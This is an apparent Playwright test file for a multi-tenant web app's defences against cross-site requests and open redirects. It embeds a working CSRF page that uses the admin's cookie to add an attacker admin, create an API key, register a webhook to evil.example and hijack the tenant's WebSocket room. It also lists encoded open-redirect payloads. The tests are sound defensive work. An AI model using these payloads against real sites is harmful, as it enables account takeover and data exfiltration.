import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "@playwright/test";
import { createTenant, signIn } from "../support/e2e-fixtures";

// Issue 19's cross-site findings in a real browser: a page on another port of the same host is
// "same-site", so Chromium attaches the admin's SameSite=Lax cookie to its no-cors requests and
// to its WebSocket. The server must refuse them by their Origin.

function attackerPage(appUrl: string, tenantId: string): string {
  const ws = appUrl.replace(/^http/, "ws");
  return `<!doctype html><title>totally harmless</title><script>
  const app = ${JSON.stringify(appUrl)};
  const post = (path, body) => fetch(app + path, { method: "POST", mode: "no-cors", credentials: "include",
    headers: { "content-type": "text/plain; x=application/json" }, body: body === undefined ? undefined : JSON.stringify(body) }).catch(() => null);
  const json = (path, body) => fetch(app + path, { method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify(body) }).catch(() => null);
  const socket = () => new Promise((resolve) => {
    const events = [];
    const s = new WebSocket(${JSON.stringify(ws)} + "/socket.io/?EIO=4&transport=websocket");
    s.onmessage = (m) => {
      events.push(String(m.data));
      if (String(m.data).startsWith("0{")) s.send("40");
      if (String(m.data).startsWith("40{")) s.send('420["join-tenant",${JSON.stringify(tenantId)}]');
      if (String(m.data).startsWith("430")) { s.close(); resolve({ opened: true, events }); }
    };
    s.onerror = () => resolve({ opened: false, events });
    setTimeout(() => resolve({ opened: "timeout", events }), 5000);
  });
  (async () => {
    await Promise.all([
      post("/api/api-keys", { name: "attacker" }),
      post("/api/members", { email: "attacker@evil.example", role: "admin" }),
      post("/api/webhooks/endpoints", { url: "https://evil.example/hook", eventTypes: ["*"] }),
      post("/api/webhooks/settings/generate-secret"),
      json("/api/webhooks/settings", { webhookEnabled: false }),
    ]);
    window.__socket = await socket();
    window.__done = true;
  })();
  </script>`;
}

test("a page on another port of the same host can neither write with the admin's cookie nor join the tenant's room", async ({
  page,
  baseURL,
}) => {
  const tenant = await createTenant("Quince Quilts");
  await signIn(page, tenant);
  const before = await Promise.all(
    ["/api/api-keys", "/api/members", "/api/webhooks/endpoints", "/api/webhooks/settings"].map(async (path) =>
      (await page.request.get(path)).json(),
    ),
  );

  const attacker: Server = createServer((_req, res) => {
    res.writeHead(200, { "content-type": "text/html" });
    res.end(attackerPage(baseURL ?? "", tenant.tenantId));
  });
  await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
  try {
    const port = (attacker.address() as AddressInfo).port;
    await page.goto(`http://127.0.0.1:${port}/`);
    await page.waitForFunction(() => (window as unknown as { __done?: boolean }).__done === true, undefined, { timeout: 20_000 });
    const socket = await page.evaluate(
      () => (window as unknown as { __socket: { opened: boolean | string; events: string[] } }).__socket,
    );
    expect(socket.opened, JSON.stringify(socket.events)).toBe(false);
  } finally {
    attacker.close();
  }

  const after = await Promise.all(
    ["/api/api-keys", "/api/members", "/api/webhooks/endpoints", "/api/webhooks/settings"].map(async (path) =>
      (await page.request.get(path)).json(),
    ),
  );
  expect(after).toEqual(before);
});

test("sign-in never follows a next= that leaves the site", async ({ page, baseURL }) => {
  const tenant = await createTenant("Rowan Rugs");
  for (const next of ["/%5Cevil.example/x", "/%09/evil.example/x", "//evil.example/x", "/%0A/evil.example/x"]) {
    await page.context().clearCookies();
    await page.goto(`/sign-in?next=${next}`);
    await page.getByLabel("Email").fill(tenant.email);
    await page.getByLabel("Password").fill(tenant.password);
    await page.getByRole("button", { name: "Sign in" }).click();
    await expect(page).toHaveURL(`${baseURL}/dashboard`);
  }
  await page.context().clearCookies();
  await page.goto("/sign-in?next=%2Factivity");
  await page.getByLabel("Email").fill(tenant.email);
  await page.getByLabel("Password").fill(tenant.password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await expect(page).toHaveURL(`${baseURL}/activity`);
});
